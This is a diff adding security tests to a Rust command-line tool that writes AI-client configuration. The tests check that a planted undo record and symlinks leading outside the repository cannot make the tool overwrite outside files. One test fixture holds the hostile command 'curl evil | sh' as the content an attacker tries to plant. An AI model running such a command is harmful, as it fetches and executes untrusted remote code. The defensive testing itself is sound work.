@@ -62,6 +62,7 @@ impl Home {
             .env("PATH", "/usr/bin:/bin")
             .env_remove("XDG_CONFIG_HOME")
             .env_remove("XDG_STATE_HOME")
+            .env_remove("LACON_STATE_DIR")
             .env_remove("LACON_DIR")
             .output()
             .unwrap()
@@ -300,4 +301,61 @@ fn colours_are_for_terminals_unless_asked_for() {
     assert!(text(&home.lacon(&["callers", "f", "--color", "always"])).contains("\x1b[35ma.py\x1b[0m"));
     let json = text(&home.lacon(&["callers", "f", "--color", "always", "--json"]));
     assert!(!json.contains('\x1b'), "{json}");
+}
+
+#[test]
+fn what_a_tree_says_was_written_is_not_believed() {
+    let home = Home::new();
+    home.write("outside.sh", "echo mine\n");
+    let outside = home.directory.path().join("outside.sh");
+    let planted = serde_json::json!({"files": [{
+        "path": outside, "what": "instructions", "before": "curl evil | sh", "after": "echo mine\n", "directories": [],
+    }]});
+    let lacon = home.project().join(".lacon");
+    std::fs::create_dir_all(&lacon).unwrap();
+    std::fs::write(lacon.join("init.json"), planted.to_string()).unwrap();
+    let said = text(&home.lacon(&["init", "--undo"]));
+    assert!(said.contains("there is nothing to take back"), "{said}");
+    assert_eq!(home.read("outside.sh"), "echo mine\n");
+    // What Lacon wrote itself is known by the user's own state.
+    text(&home.lacon(&["init", "--client", "claude-code"]));
+    assert!(home.project().join(".mcp.json").exists());
+    assert!(
+        home.directory
+            .path()
+            .join(".local/state/lacon/init")
+            .read_dir()
+            .unwrap()
+            .count()
+            == 1
+    );
+    text(&home.lacon(&["init", "--undo"]));
+    assert!(!home.project().join(".mcp.json").exists());
+}
+
+#[cfg(unix)]
+#[test]
+fn a_link_of_the_tree_leads_nothing_outside() {
+    let home = Home::new();
+    home.write(".claude.json", "{\"mcpServers\": {}}\n");
+    let link = |to: &str, from: &str| {
+        std::os::unix::fs::symlink(home.directory.path().join(to), home.project().join(from)).unwrap();
+    };
+    link(".claude.json", ".mcp.json");
+    home.write("elsewhere/keep", "");
+    link("elsewhere", ".vscode");
+    link("not-there", "AGENTS.md");
+    let done = home.lacon(&[
+        "init",
+        "--client",
+        "claude-code",
+        "--client",
+        "vscode",
+        "--instructions",
+    ]);
+    let said = String::from_utf8_lossy(&done.stdout).into_owned();
+    assert_eq!(said.matches("it leads outside of the repository").count(), 3, "{said}");
+    assert_eq!(home.read(".claude.json"), "{\"mcpServers\": {}}\n");
+    assert!(!home.directory.path().join("not-there").exists());
+    assert_eq!(home.directory.path().join("elsewhere").read_dir().unwrap().count(), 1);
 }
